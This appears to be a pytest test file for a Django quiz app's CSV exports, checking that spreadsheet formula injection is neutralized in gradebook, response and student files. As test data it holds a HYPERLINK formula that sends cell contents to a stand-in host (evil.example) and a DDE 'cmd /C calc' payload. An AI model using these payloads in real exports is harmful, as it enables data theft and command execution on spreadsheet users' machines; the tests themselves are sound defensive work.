"""CSV exports, checked by parsing what they write: gradebook, responses, statistics, and the command."""

from __future__ import annotations

import csv
import io
import math
import re
import types
import unicodedata
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import given, settings
from hypothesis import strategies as st

from quiz import exports, reviews, services
from quiz.models import Response
from quiz.statistics import quiz_statistics

FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "Click")'


def _parse(rows) -> list[dict]:
    text = "".join(exports.csv_lines(rows))
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-7", "'-7"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("\tplain", "'\tplain"),
        (" =1+1", "' =1+1"),
        ("\u3000=1+1", "'\u3000=1+1"),
        ("＝1+1", "'＝1+1"),
        ("－7", "'－7"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ('"=1+1"', "'\"=1+1\""),
        ("\n=cmd|' /C calc'!A0", "'\n'=cmd|' /C calc'!A0"),
        ("a;=1+1", "a;'=1+1"),
        ("a; =1+1;b", "a;' =1+1;b"),
        ("Dropout\r\n-augmentation", "Dropout\r\n'-augmentation"),
        ("x\t@A1", "x\t'@A1"),
        ("903,400", "903,400"),
        ("2, 2, 2, -7", "2, 2, 2, -7"),
        ("[1, -2]", "[1, -2]"),
        ("3;4", "3;4"),
        ("a = b", "a = b"),
        ("Zoë", "Zoë"),
        (" ", " "),
        ("", ""),
        (0.5, 0.5),
        (-1, -1),
        (None, None),
    ],
)
def test_neutralize_defuses_only_text_a_spreadsheet_would_run(cell, expected):
    assert exports.neutralize(cell) == expected


TRIGGERS = set("=+-@")


def cells_a_spreadsheet_could_see(text: str) -> list[str]:
    """Every cell of a CSV file under each separator a spreadsheet might pick, and, for the
    worst case, split on `;`, tabs and line breaks with its quotes ignored altogether."""
    cells = []
    for delimiter in (",", ";", "\t"):
        try:
            cells += [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
        except csv.Error:
            pass  # Python's reader is stricter than a spreadsheet here; the split below is the worst case

    cells += re.split(r"[;\t\r\n]+", text)
    return cells


def runs(cell: str) -> bool:
    """Whether a spreadsheet runs the cell: its first character that is not a space or a quote, NFKC."""
    significant = unicodedata.normalize("NFKC", cell).lstrip(' "\u3000')
    return significant[:1] in TRIGGERS


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(
    st.text(alphabet=st.sampled_from(list('=+-@;,\t\r\n "\'abc1＝＋－＠\u3000')), max_size=12),
    st.text(max_size=12),
), min_size=1, max_size=4))
def test_no_cell_under_any_separator_runs_as_a_formula(row):
    text = "".join(exports.csv_lines([["1", *row]]))
    assert [cell for cell in cells_a_spreadsheet_could_see(text) if runs(cell)] == []


@pytest.fixture
def two_attempts(quiz, alice, bob, submitted_attempt):
    first = submitted_attempt(alice, {"q2a": "903400", "q4a": "[[5, 6], [10, 9]]"})
    second = submitted_attempt(bob, {"q2a": "902,700", "q2b": FORMULA, "q6b": "Skip connections,\nand \"residuals\""})
    return first, second


def test_the_gradebook_has_a_row_per_attempt_and_a_column_per_part(quiz, two_attempts):
    rows = _parse(exports.gradebook_rows(quiz))

    assert [row["username"] for row in rows] == ["alice", "bob"]
    alice = rows[0]
    assert (alice["Question 2a"], alice["Question 4"], alice["Question 1"]) == ("1", "1", "0")
    assert (alice["total"], alice["max_score"], alice["state"]) == ("2", "21", "graded")
    bob = rows[1]
    assert bob["Question 2a"] == "0"
    suggestion = Response.objects.get(attempt=two_attempts[1], part__question__key="q6", part__key="b").score
    assert 0 < suggestion <= 1 and math.isclose(float(bob["Question 6b"]), suggestion)
    assert bob["state"] == "needs_review"


def test_the_gradebook_shows_the_score_that_counts(quiz, two_attempts, tess):
    response = Response.objects.get(attempt=two_attempts[1], part__question__key="q2", part__key="a")
    reviews.override_score(response=response, score=0.75, reason="Close enough", teacher=tess)
    bob = _parse(exports.gradebook_rows(quiz))[1]
    two_attempts[1].refresh_from_db()
    assert bob["Question 2a"] == "0.75"
    assert Decimal(bob["total"]) == two_attempts[1].score == Decimal("0.75") + Decimal(bob["Question 6b"])


def test_the_gradebook_lists_attempts_in_progress_without_scores(quiz, alice):
    services.start_attempt(student=alice, quiz=quiz)
    [row] = _parse(exports.gradebook_rows(quiz))
    assert (row["state"], row["total"], row["Question 2a"], row["submitted_at"]) == ("in_progress", "", "", "")


def test_responses_export_the_answer_as_typed_and_its_verdict(quiz, two_attempts):
    rows = _parse(exports.response_rows(quiz))

    assert len(rows) == 2 * 21
    bob = {row["part"]: row for row in rows if row["username"] == "bob"}
    assert bob["Question 2a"]["answer"] == "902,700"
    assert (bob["Question 2a"]["status"], bob["Question 2a"]["mistake"]) == ("incorrect", "no_bias")
    assert bob["Question 2a"]["feedback"] == "Each filter also has a bias term."
    assert (bob["Question 2a"]["score"], bob["Question 2a"]["max_points"]) == ("0", "1")
    assert bob["Question 6b"]["answer"] == "Skip connections,\nand \"residuals\""


def test_a_formula_looking_answer_is_exported_as_text(quiz, two_attempts):
    rows = _parse(exports.response_rows(quiz))
    [row] = [row for row in rows if row["username"] == "bob" and row["part"] == "Question 2b"]
    assert row["answer"] == "'" + FORMULA
    assert row["status"] == "invalid"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


def test_statistics_export_one_row_per_part(quiz, two_attempts):
    rows = _parse(exports.statistics_rows(quiz_statistics(quiz)))
    assert len(rows) == 21
    q2a = next(row for row in rows if row["part"] == "Question 2a")
    assert (q2a["attempts"], q2a["facility"], q2a["correct"], q2a["incorrect"]) == ("2", "0.5", "1", "1")
    assert q2a["mistakes"] == "Each filter also has a bias term: 1 (50%)"
    assert q2a["common_wrong_answers"].endswith("(1)")


def test_exports_are_generators_that_query_only_when_read(quiz, two_attempts):
    rows = exports.response_rows(quiz)
    assert isinstance(rows, types.GeneratorType)
    with CaptureQueriesContext(connection) as context:
        lines = exports.csv_lines(exports.gradebook_rows(quiz))
    assert len(context) == 0
    assert next(lines).startswith("attempt_id,username")


def test_the_gradebook_takes_the_same_number_of_queries_for_more_attempts(quiz, students, submitted_attempt):
    def queries_for(count: int, start: int) -> int:
        for student in students(count, start):
            submitted_attempt(student, {"q2a": "903400"})
        with CaptureQueriesContext(connection) as context:
            list(exports.gradebook_rows(quiz))
            list(exports.response_rows(quiz))
        return len(context)

    assert queries_for(2, start=1) == queries_for(5, start=10)


@pytest.mark.parametrize(
    ("options", "first_column", "count"),
    [([], "attempt_id", 2), (["--responses"], "attempt_id", 42), (["--statistics"], "part", 21)],
)
def test_the_command_writes_the_same_csv_to_standard_output(quiz, two_attempts, options, first_column, count):
    out = io.StringIO()
    call_command("export_scores", "cnn-fundamentals", *options, stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(rows) == count
    assert next(iter(rows[0])) == first_column
    if options == ["--responses"]:
        assert out.getvalue() == "".join(exports.csv_lines(exports.response_rows(quiz)))


def test_the_command_writes_a_byte_order_mark_only_when_asked(quiz, two_attempts):
    plain, marked = io.StringIO(), io.StringIO()
    call_command("export_scores", "cnn-fundamentals", stdout=plain)
    call_command("export_scores", "cnn-fundamentals", "--bom", stdout=marked)
    assert not plain.getvalue().startswith("\ufeff")
    assert marked.getvalue() == "\ufeff" + plain.getvalue()


def test_the_command_refuses_an_unknown_quiz(db):
    with pytest.raises(CommandError, match="no quiz 'nope'"):
        call_command("export_scores", "nope")


# --- One row per student: the grade that counts --------------------------------------------------------


def test_the_students_file_has_one_row_per_student_with_the_grade_that_counts(quiz, alice, bob, submitted_attempt):
    quiz.attempts_allowed, quiz.grading_method = 3, "average"
    quiz.save()
    alice.first_name = FORMULA
    alice.save()
    submitted_attempt(alice, {"q2a": "903400"})
    submitted_attempt(alice, {"q2a": "903400", "q4a": "[[5, 6], [10, 9]]", "q6b": "Skip connections."})
    services.start_attempt(student=bob, quiz=quiz)
    out = io.StringIO()
    call_command("export_scores", "cnn-fundamentals", "--students", stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [row["username"] for row in rows] == ["alice", "bob"]
    ada_row, bob_row = rows
    assert ada_row["name"].startswith("'=HYPERLINK"), "a name is never run as a formula"
    assert ada_row["grading_method"] == "average" and ada_row["counted_attempts"] == "1 2"
    assert (ada_row["finished_attempts"], ada_row["attempts"], ada_row["awaiting_review"]) == ("2", "2", "2")
    scores = [attempt.score for attempt in alice.attempts.order_by("number")]
    assert Decimal(ada_row["grade"]) == (sum(scores) / 2).quantize(Decimal("0.001"))
    assert (bob_row["grade"], bob_row["counted_attempts"], bob_row["attempts"]) == ("", "", "1")


def test_the_students_file_reads_a_fixed_number_of_queries_however_many_students(quiz, students, submitted_attempt):
    def queries_for(count: int, start: int) -> int:
        for student in students(count, start):
            submitted_attempt(student, {"q2a": "903400"})
        with CaptureQueriesContext(connection) as context:
            list(exports.student_grade_rows(quiz))
        return len(context)

    assert queries_for(2, start=1) == queries_for(5, start=10)
